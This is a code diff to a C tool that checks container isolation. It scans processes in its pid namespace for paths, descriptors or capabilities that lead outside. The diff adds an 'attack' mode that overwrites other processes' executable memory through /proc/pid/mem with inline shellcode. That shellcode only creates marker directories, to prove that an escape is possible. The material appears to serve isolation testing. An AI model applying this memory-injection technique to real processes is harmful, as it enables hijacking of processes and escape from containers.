@@ -1,9 +1,11 @@
 /* Looks at every process of its pid namespace as fast as it can, with CAP_SYS_PTRACE, and tells of
  * each that leads out of the container: by its root, working directory, program or descriptors, or
  * by a capability that the container doesn't have; with the argument `guest` also by a program of
- * the agent's whose mode can be changed, which a test on a host can't keep it from. Ends when
- * /tmp/stop exists. Prints a line for each finding, then how many processes it has met before they
- * had executed their own program. */
+ * the agent's whose mode can be changed, which a test on a host can't keep it from. With the argument
+ * `attack` it does not look, but writes a program of its own over that of each process it meets so
+ * early: whoever runs it makes /tmp/inside or, where it isn't in this pid namespace, /tmp/escaped.
+ * Ends when /tmp/stop exists. Prints a line for each finding, then how many processes it has met
+ * before they had executed their own program. */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <fcntl.h>
@@ -14,11 +16,24 @@
 #include <unistd.h>
 
 /* The pidfd is the process's own, on its way to the agent. */
-static const char *const inside[] = {"pipe:", "socket:", "anon_inode:[pidfd]", "/dev/null", "/dev/p", NULL};
+static const char *const harmless[] = {"pipe:", "socket:", "anon_inode:[pidfd]", "/dev/null", "/dev/p", NULL};
 static char own_program[256];
 static unsigned long long own_capabilities;
 static long early, ended_meanwhile;
-static int in_guest;
+static int in_guest, attacks;
+
+/* access("/proc/self", F_OK): only processes of this procfs's pid namespace have it; then
+ * mkdir("/tmp/inside") or mkdir("/tmp/escaped"), and exit_group(99). */
+extern const char payload[], payload_end[];
+__asm__(".section .rodata\n"
+        "payload:\n"
+        "mov $21, %eax\n lea self(%rip), %rdi\n xor %esi, %esi\n syscall\n"
+        "lea inside(%rip), %rdi\n test %eax, %eax\n jz 1f\n lea escaped(%rip), %rdi\n"
+        "1: mov $83, %eax\n mov $0755, %esi\n syscall\n"
+        "mov $231, %eax\n mov $99, %edi\n syscall\n"
+        "self: .asciz \"/proc/self\"\n inside: .asciz \"/tmp/inside\"\n escaped: .asciz \"/tmp/escaped\"\n"
+        "payload_end:\n"
+        ".text\n");
 
 static void found(const char *pid, const char *what, const char *detail)
 {
@@ -68,9 +83,9 @@ static void look_at_descriptors(const char *pid)
     while (directory && (entry = readdir(directory))) {
         if (entry->d_name[0] == '.' || !link_of(target, "/proc/%s/fd/%s", pid, entry->d_name))
             continue;
-        for (i = 0; inside[i] && strncmp(target, inside[i], strlen(inside[i])); i++)
+        for (i = 0; harmless[i] && strncmp(target, harmless[i], strlen(harmless[i])); i++)
             ;
-        if (!inside[i])
+        if (!harmless[i])
             found(pid, "fd", target);
     }
     if (directory)
@@ -100,6 +115,38 @@ static void look_at_program(const char *pid)
         close(program);
 }
 
+/* Whichever instruction comes next, it leads to the payload. */
+static void attack(const char *pid, const char *program)
+{
+    char path[320], line[512];
+    unsigned long first, end;
+    size_t length = payload_end - payload, size;
+    char *code;
+    FILE *maps;
+    int memory;
+    snprintf(path, sizeof path, "/proc/%s/mem", pid);
+    memory = open(path, O_RDWR | O_CLOEXEC);
+    snprintf(path, sizeof path, "/proc/%s/maps", pid);
+    maps = memory >= 0 ? fopen(path, "re") : NULL;
+    while (maps && fgets(line, sizeof line, maps)) {
+        if (sscanf(line, "%lx-%lx r-xp", &first, &end) != 2 || !strstr(line, " r-xp ") || !strstr(line, program))
+            continue;
+        size = end - first;
+        code = malloc(size);
+        if (code) {
+            memset(code, 0x90, size - length);
+            memcpy(code + size - length, payload, length);
+            if (pwrite(memory, code, size, first) != (ssize_t)size)
+                ended_meanwhile++;
+            free(code);
+        }
+    }
+    if (maps)
+        fclose(maps);
+    if (memory >= 0)
+        close(memory);
+}
+
 static void look_at(const char *pid, const struct stat *own_root)
 {
     char path[320], target[256];
@@ -121,6 +168,10 @@ static void look_at(const char *pid, const struct stat *own_root)
     }
     if (link_of(target, "/proc/%s/%s", pid, "exe") && !is_own(target)) {
         early++;
+        if (attacks) {
+            attack(pid, target);
+            return;
+        }
         look_at_program(pid);
         look_at_descriptors(pid);
         if (capabilities(pid) & ~own_capabilities)
@@ -136,6 +187,7 @@ int main(int argc, char **argv)
     long rounds = 0;
     DIR *processes = opendir("/proc");
     in_guest = argc > 1 && strcmp(argv[1], "guest") == 0;
+    attacks = argc > 1 && strcmp(argv[1], "attack") == 0;
     if (!processes || stat("/", &own_root) < 0 || !link_of(own_program, "/proc/%s/%s", "self", "exe"))
         return 2;
     own_capabilities = capabilities("self");
